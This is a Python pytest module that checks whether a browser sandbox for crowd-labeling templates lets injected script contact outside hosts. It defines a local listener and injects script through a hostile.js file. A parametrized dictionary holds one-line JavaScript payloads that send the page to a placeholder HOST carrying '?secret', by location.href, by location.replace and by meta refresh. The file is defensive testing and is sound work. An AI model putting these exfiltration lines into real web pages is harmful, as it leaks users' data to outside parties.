"""A template is a stranger's program: nothing that it knows leaves its frame, but the answer."""

import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from mdlc.templates.server import SITE
from tests.web.labeling.worker import Worker

pytestmark = pytest.mark.slow
SILENT = b""
"""What is said by who connects alone: Chromium does, before it asks the policy."""


@pytest.fixture
def stranger() -> Iterator[tuple[str, list[bytes]]]:
    """Another host, and every connection to it, whatever it speaks."""
    heard: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def listen() -> None:
            while True:
                try:
                    caller, _ = server.accept()
                except OSError:
                    return
                with caller:
                    caller.settimeout(1)
                    try:
                        heard.append(caller.recv(2000))
                    except OSError:
                        heard.append(SILENT)

        thread = threading.Thread(target=listen, daemon=True)
        thread.start()
        yield f"127.0.0.1:{server.getsockname()[1]}", heard
        server.shutdown(socket.SHUT_RDWR)
    thread.join(5)


WAIT = """async () => {
  while (!document.body.dataset.out) await new Promise(done => setTimeout(done, 50))
  return document.body.dataset.out
}"""
HOSTILE = Path(__file__).with_name("hostile.js")


def test_nothing_gets_out(worker: Worker, stranger: tuple[str, list[bytes]]) -> None:
    """Neither by what raises an error, nor by what nobody hears of; a STUN request would be a datagram at the ear."""
    host, heard = stranger
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as ear:
        ear.bind(("127.0.0.1", 0))
        ear.settimeout(0)
        code = HOSTILE.read_text().replace("HOST", host).replace("EAR", f"127.0.0.1:{ear.getsockname()[1]}")
        frame = worker.show(f"<crowd-form><p>Harmless.</p></crowd-form><script>{code}</script>")
        assert frame.evaluate(WAIT) == "nothing"
        frame.evaluate("() => { setTimeout(() => document.dispatchEvent(new Event('go'))) }")
        worker.page.wait_for_timeout(3000)
        with pytest.raises(BlockingIOError):
            ear.recv(100)
    assert set(heard) <= {SILENT}
    assert len(worker.page.context.pages) == 1
    assert worker.page.url.startswith(worker.server.address)


LEAVE = {
    "an address": "location.href = 'http://HOST/?secret'",
    "another address": "location.replace('http://HOST/?secret')",
    "a refresh": "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=\"0;url=http://HOST/\">')",
}


@pytest.mark.parametrize("way", LEAVE)
def test_a_frame_goes_nowhere_else(way: str, worker: Worker, stranger: tuple[str, list[bytes]]) -> None:
    host, heard = stranger
    worker.show(
        f"<crowd-form></crowd-form><script>setTimeout(() => {{ {LEAVE[way].replace('HOST', host)} }}, 300)</script>"
    )
    worker.page.wait_for_timeout(1500)
    assert set(heard) <= {SILENT}
    assert worker.page.url.startswith(worker.server.address)


@pytest.mark.parametrize("file", sorted(SITE.rglob("*.*")), ids=lambda file: file.name)
def test_no_file_names_a_host_of_the_internet(file: Path) -> None:
    """But the name of AWS's script, which is replaced by ours, and the name space of SVG, which nobody asks for."""
    text = file.read_text().replace("https:\\/\\/assets\\.crowd\\.aws", "").replace("http://www.w3.org/2000/svg", "")
    assert "://" not in text.replace("https://[^", "")
